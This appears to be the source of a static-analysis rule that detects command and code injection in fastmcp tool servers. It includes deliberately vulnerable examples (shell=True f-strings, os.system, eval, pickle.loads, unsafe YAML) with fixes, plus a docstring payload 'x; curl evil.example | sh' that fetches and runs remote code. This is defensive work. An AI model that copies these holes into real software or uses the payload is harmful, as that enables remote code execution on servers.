"""Arguments of a call that become part of a command line or of code."""

from collections.abc import Iterator, Mapping

from analyzers.authority.egress import BOUND, BROKEN, OPEN
from analyzers.authority.taint import Taint, before, confidence, open_pieces
from analyzers.authority.wholes import HARMLESS, is_meant, is_whole, text_taints
from analyzers.evidence.taint_drafts import Telling, causes, drafts
from analyzers.finding import Confidence, Severity
from analyzers.fixes.choices import listed_choice
from analyzers.fixes.commands import as_words
from analyzers.flow.operands import CODE, PROGRAM, SHELL, WORD
from analyzers.rule import Analysis, Draft, Proposal, Rule, py

# Programs whose options are known to start others.
STARTS_OTHERS = ("git", "ssh", "scp", "rsync", "tar", "find", "hg", "svn", "make")
NO_OPTION = "no option"
# What is started as a program, and is none of this machine.
NOT_OF_THE_HOST = ("an image",)


class CommandInjection(Rule):
    """
    ## What it finds
    An argument of a call that becomes part of a command line for a shell (`shell=True`, `os.system`, `sh -c`, the
    command of `ssh` or `docker exec`, what a shell reads from its standard input), of code for an interpreter, of a
    template, or of what `pickle` and unsafe YAML loaders make objects from. A check that leaves the special characters
    of a shell counts as none: a first word, a prefix, a list of forbidden characters. An argument that completes the
    path of a program leads to others, as `tools/../../bin/sh` does. An argument that may begin with
    `-` and goes to a program whose options run others (`git --upload-pack`) is reported with less weight.

    ## Why it matters
    The caller of a tool is a model that a page or a mail can talk into anything. `x; curl evil.example | sh` in a
    file name runs on the server with all that the server may do.

    ## Fix
    Start the program with a list of arguments and no shell, and put `--` in front of what the caller chose. Where a
    shell is needed, quote each argument with `shlex.quote`, or let the caller choose from a list. Read data as JSON or
    with `yaml.safe_load`.
    """

    id = "command-injection"
    summary = "an argument becomes part of a command or of code"
    principle = "least_privilege"
    severity = Severity.CRITICAL
    cwe = ("CWE-78", "CWE-94", "CWE-88", "CWE-502")
    owasp = ("MCP05",)
    spec = ("server/tools#security-considerations",)
    pattern = "one-tool-one-verb"
    examples = (
        py(
            """
            import subprocess
            from fastmcp import FastMCP

            mcp = FastMCP("files")

            @mcp.tool
            def count(name: str) -> str:
                return subprocess.run(f"wc -l {name}", shell=True, capture_output=True, text=True).stdout  # finding

            @mcp.tool
            def size(name: str) -> str:
                return subprocess.run(["du", "-h", "--", name], capture_output=True, text=True).stdout

            mcp.run(transport="http")
            """,
            fixed="""
            import subprocess
            from fastmcp import FastMCP

            mcp = FastMCP("files")

            @mcp.tool
            def count(name: str) -> str:
                return subprocess.run(["wc", "-l", name], capture_output=True, text=True).stdout

            @mcp.tool
            def size(name: str) -> str:
                return subprocess.run(["du", "-h", "--", name], capture_output=True, text=True).stdout

            mcp.run(transport="http")
            """,
            note="a shell, and a list of arguments",
        ),
        py(
            """
            import asyncio
            import subprocess
            from fastmcp import FastMCP

            mcp = FastMCP("files")
            TOOL = "grep -r"

            @mcp.tool
            async def look(pattern: str, folder: str) -> bytes:
                process = await asyncio.create_subprocess_shell(  # finding
                    f"{TOOL} '{pattern}' "
                    f"/srv/{folder} | head -n 20",
                    stdout=asyncio.subprocess.PIPE,
                )
                return (await process.communicate())[0]

            @mcp.tool
            def commit(message: str) -> int:
                command = f'git add . && git commit -m "{message}"'
                return subprocess.call(command, shell=True)  # finding

            mcp.run(transport="http")
            """,
            fixed="""
            import asyncio
            import subprocess
            from fastmcp import FastMCP
            import shlex

            mcp = FastMCP("files")
            TOOL = "grep -r"

            @mcp.tool
            async def look(pattern: str, folder: str) -> bytes:
                process = await asyncio.create_subprocess_shell(
                    f"{TOOL} {shlex.quote(pattern)} "
                    f"/srv/{shlex.quote(folder)} | head -n 20",
                    stdout=asyncio.subprocess.PIPE,
                )
                return (await process.communicate())[0]

            @mcp.tool
            def commit(message: str) -> int:
                command = f'git add . && git commit -m {shlex.quote(message)}'
                return subprocess.call(command, shell=True)

            mcp.run(transport="http")
            """,
            note="words in quotes of their own, and a command with a name",
        ),
        py(
            """
            import asyncio
            import os
            import subprocess
            from fastmcp import FastMCP

            mcp = FastMCP("hosts")

            @mcp.tool
            def reach(host: str) -> int:
                return os.system("ping -c 1 " + host)  # finding

            @mcp.tool
            async def look(pattern: str) -> str:
                process = await asyncio.create_subprocess_shell("grep -r '%s' ." % pattern)  # finding
                return str(await process.wait())

            @mcp.tool
            def remote(host: str, service: str) -> str:
                return subprocess.check_output(["ssh", "web1", f"systemctl status {service}"], text=True)  # finding

            @mcp.tool
            def inside(path: str) -> str:
                command = ["docker", "exec", "box", "sh", "-c"]
                command.append(f"ls {path}")
                return subprocess.check_output(command, text=True)  # finding

            @mcp.tool
            def notify(title: str) -> None:
                subprocess.run(["osascript", "-e", f'display notification "{title}"'])  # finding

            @mcp.tool
            def compute(expression: str) -> str:
                return str(eval(expression))  # finding

            mcp.run()
            """,
            note="commands glued together, a shell elsewhere, an interpreter, an expression",
        ),
        py(
            """
            import pickle
            import redis
            import yaml
            from fastmcp import FastMCP

            mcp = FastMCP("reports")
            store = redis.Redis()

            @mcp.tool
            def create(data: str) -> str:
                return str(pickle.loads(bytes.fromhex(data)))  # finding

            @mcp.tool
            def configure(source: str) -> str:
                return str(yaml.load(source, Loader=yaml.UnsafeLoader))  # finding

            @mcp.tool
            def read(data: str) -> str:
                return str(yaml.safe_load(data)) + str(yaml.load(data, Loader=yaml.SafeLoader))

            @mcp.tool
            def cached(name: str) -> str:
                return str(pickle.loads(store.get(f"report:{name}")))

            mcp.run(transport="http")
            """,
            note="objects that run code as they are made, and data that is only data",
        ),
        py(
            """
            import subprocess
            from fastmcp import FastMCP
            from runner import run

            mcp = FastMCP("logs")

            @mcp.tool
            def tail(unit: str) -> str:
                return run(f"journalctl -u {unit} -n 100")  # finding

            @mcp.tool
            def clone(url: str) -> str:
                return run("git clone " + url)  # finding

            mcp.run()
            """,
            runner="""
            import subprocess

            def run(command: str) -> str:
                return subprocess.run(command, shell=True, capture_output=True, text=True).stdout
            """,
            note="the helper runs what the tools put together",
        ),
        py(
            """
            import re
            import subprocess
            from fastmcp import FastMCP

            mcp = FastMCP("guarded")

            @mcp.tool
            def run_git(command: str) -> str:
                if not command.startswith("git "):
                    raise ValueError("only git")
                return subprocess.run(command, shell=True, capture_output=True, text=True).stdout  # finding

            @mcp.tool
            def show(name: str) -> str:
                if any(character in name for character in (";", "&", "|")):
                    raise ValueError("bad name")
                return subprocess.run(f"cat {name}", shell=True, capture_output=True, text=True).stdout  # finding

            @mcp.tool
            def restart(name: str, other: str) -> str:
                if not re.fullmatch(r"[a-z0-9-]+", other):
                    raise ValueError("bad name")
                return subprocess.run(f"systemctl restart {name}", shell=True, text=True).stdout  # finding

            mcp.run()
            """,
            note="a first word, forbidden characters, a check of another value",
        ),
        py(
            """
            import asyncio
            import re
            import shlex
            import subprocess
            from typing import Literal
            from fastmcp import FastMCP

            mcp = FastMCP("careful")
            UNITS = {"web": "nginx", "db": "postgres"}
            ALLOWED = ("web", "db")

            def checked(name: str) -> str:
                if not re.fullmatch(r"[a-z][a-z0-9_.-]{0,40}", name):
                    raise ValueError("bad name")
                return name

            @mcp.tool
            def quoted(name: str) -> int:
                return subprocess.run(f"wc -l {shlex.quote(name)}", shell=True).returncode

            @mcp.tool
            def matched(name: str) -> int:
                return subprocess.run(f"systemctl status {checked(name)}", shell=True).returncode

            @mcp.tool
            def listed(name: str) -> int:
                if name not in ALLOWED:
                    raise ValueError("bad name")
                return subprocess.run(f"systemctl status {name}", shell=True).returncode

            @mcp.tool
            def looked_up(name: str, lines: int, level: Literal["err", "info"]) -> int:
                command = f"journalctl -u {UNITS[name]} -n {lines} -p {level}"
                return subprocess.run(command, shell=True).returncode

            @mcp.tool
            async def arguments(name: str) -> int:
                process = await asyncio.create_subprocess_exec("du", "-h", name)
                return await process.wait()

            @mcp.tool
            def fixed() -> int:
                return subprocess.run("df -h | sort", shell=True).returncode

            mcp.run()
            """,
            note="quoted, matched as a whole, listed, looked up, typed, without a shell",
        ),
        py(
            """
            import asyncio
            import subprocess
            from fastmcp import FastMCP

            mcp = FastMCP("shells")

            @mcp.tool
            def listed(folder: str) -> str:
                return subprocess.run(["bash", "-s"], input=f"ls {folder}", text=True).stdout  # finding

            @mcp.tool
            def counted(folder: str) -> str:
                process = subprocess.Popen(["/bin/sh"], stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True)
                out, _ = process.communicate(f"ls {folder} | wc -l")  # finding
                return out

            @mcp.tool
            async def sized(folder: str) -> None:
                process = await asyncio.create_subprocess_exec("bash", stdin=asyncio.subprocess.PIPE)
                process.stdin.write(f"du {folder}\\n".encode())  # finding

            mcp.run()
            """,
            note="on the standard input of a shell",
        ),
        py(
            """
            import subprocess
            from fastmcp import FastMCP

            mcp = FastMCP("reports")
            KINDS = {"monthly": "month.sh", "yearly": "year.sh"}

            @mcp.tool
            def report(kind: str, month: str) -> str:
                return subprocess.run([f"/opt/reports/{kind}", month], capture_output=True, text=True).stdout  # finding

            @mcp.tool
            def known(kind: str) -> str:
                return subprocess.run([f"/opt/reports/{KINDS[kind]}"], capture_output=True, text=True).stdout

            @mcp.tool
            def plain(kind: str) -> str:
                if not kind.isalnum():
                    raise ValueError(kind)
                return subprocess.run([f"/opt/reports/{kind}"], capture_output=True, text=True).stdout

            mcp.run()
            """,
            note="the path of the program",
        ),
        py(
            """
            import shlex
            import subprocess
            from fastmcp import FastMCP

            mcp = FastMCP("filters")

            @mcp.tool
            def sorted_lines(text: str) -> str:
                return subprocess.run(["sort"], input=f"# {text}", text=True, capture_output=True).stdout

            @mcp.tool
            def by_script(text: str) -> str:
                return subprocess.run(["bash", "count.sh"], input=f"# {text}", text=True, capture_output=True).stdout

            @mcp.tool
            def by_line(text: str) -> str:
                process = subprocess.Popen(["sh", "-c", "wc -l"], stdin=subprocess.PIPE, text=True)
                return process.communicate(f"# {text}")[0]

            @mcp.tool
            def quoted(folder: str) -> str:
                return subprocess.run(["bash"], input=f"ls -- {shlex.quote(folder)}", text=True).stdout

            @mcp.tool
            def joined(folder: str) -> str:
                return subprocess.run(shlex.join(["ls", "--", folder]) + " | wc -l", shell=True, text=True).stdout

            mcp.run()
            """,
            note="on the standard input of something else, or quoted",
        ),
    )

    def check(self, analysis: Analysis) -> Iterator[Draft]:
        """Yield a draft for each entry point and each function that completes a command of its arguments."""
        found = [taint for role in (SHELL, CODE) for taint in text_taints(analysis.rows, role) if _is_injection(taint)]
        words = [taint for taint in text_taints(analysis.rows, WORD) if _may_be_option(taint)]
        free = {
            taint.row.entry.server.id
            for role in (SHELL, PROGRAM)
            for taint in text_taints(analysis.rows, role)
            if taint.verdict.state == OPEN and is_whole(taint) and taint.operand.reader not in NOT_OF_THE_HOST
        }
        for cause in causes(analysis, found):
            for taint in cause.taints:
                yield drafts(cause, taint, _telling(taint, taint.row.entry.server.id in free))
        for cause in causes(analysis, words):
            for taint in cause.taints:
                yield drafts(cause, taint, _option(taint))
        for cause in causes(analysis, _programs(analysis)):
            for taint in cause.taints:
                yield drafts(cause, taint, _started(taint))

    def fix(self, draft: Draft, analysis: Analysis, texts: Mapping[str, bytes]) -> Proposal | None:
        """Run the words of an f-string without a shell of this machine, else quote what the caller writes into it."""
        named = [taint for taint in _programs(analysis) if taint.row.key in draft.rows]
        return listed_choice(named[0], texts) if named else as_words(draft, analysis, texts)


def _programs(analysis: Analysis) -> list[Taint]:
    """Return what callers write into a part of a program's path."""
    return [
        taint
        for taint in text_taints(analysis.rows, PROGRAM)
        if not taint.operand.reader and taint.verdict.state != BOUND and _completes(taint)
    ]


def _completes(taint: Taint) -> bool:
    """Tell whether a caller's part stands in the path of the program, not in a word behind it."""
    first = min(open_pieces(taint, HARMLESS[PROGRAM]), default=-1)
    return first >= 0 and len(before(taint.operand.shape, first).split()) <= 1 and not is_whole(taint)


def _is_injection(taint: Taint) -> bool:
    if taint.verdict.state == BOUND:
        return False
    return taint.verdict.state == BROKEN or not is_whole(taint) or not is_meant(taint)


def _may_be_option(taint: Taint) -> bool:
    about = {guard.note for guard in taint.effect.guards if guard.kind == "url"}
    # What the caller of a helper writes in front may be nobody's.
    begun = next((piece for piece in taint.operand.shape if piece.text or piece.labels), None)
    begins = begun is None or begun.text.startswith("-") or bool(begun.labels & taint.chosen)
    return taint.verdict.state != BOUND and NO_OPTION not in about and begins


def _telling(taint: Taint, is_free: bool) -> Telling:
    """What is said of a command; on a server that runs any command anyway this one gives little more."""
    remote = taint.row.transport in ("http", "both")
    reader = taint.operand.reader
    passed = f", which a check lets through: {taint.verdict.bypass}" if taint.verdict.bypass else ""
    alone = Severity.CRITICAL if remote else Severity.HIGH
    return Telling(
        message=f"{taint.row.title} gives {taint.named} to {reader} as part of what it runs{passed}.",
        why=(
            "Quotes, `;` and `$()` in an argument are commands to whatever reads the text. A model that was talked "
            "into it runs anything with the server's rights."
        ),
        doing=f"hands it to {reader}",
        group_message="entry points give arguments to an interpreter as part of what it runs.",
        severity=Severity.MEDIUM if is_free else alone,
        confidence=confidence(taint),
        alone=alone,
    )


def _started(taint: Taint) -> Telling:
    return Telling(
        message=f"{taint.row.title} starts a program whose path {taint.named} completes.",
        why="`..` and `/` in the argument lead to any program of the machine, which runs with the server's rights.",
        doing="starts it as a program",
        group_message="entry points start programs whose paths their callers complete.",
        severity=Severity.HIGH,
        confidence=confidence(taint),
    )


def _option(taint: Taint) -> Telling:
    program = taint.operand.reader
    sure = program in STARTS_OTHERS
    return Telling(
        message=f"{taint.row.title} gives {taint.named} to `{program}` where it may begin with `-` and be an option.",
        why=f"Options of `{program}` write files or start programs. `--` in front ends them.",
        doing=f"starts `{program}` with it",
        group_message="entry points give arguments to a program that may read them as options.",
        severity=Severity.MEDIUM,
        confidence=min(confidence(taint), Confidence.MEDIUM if sure else Confidence.LOW),
    )
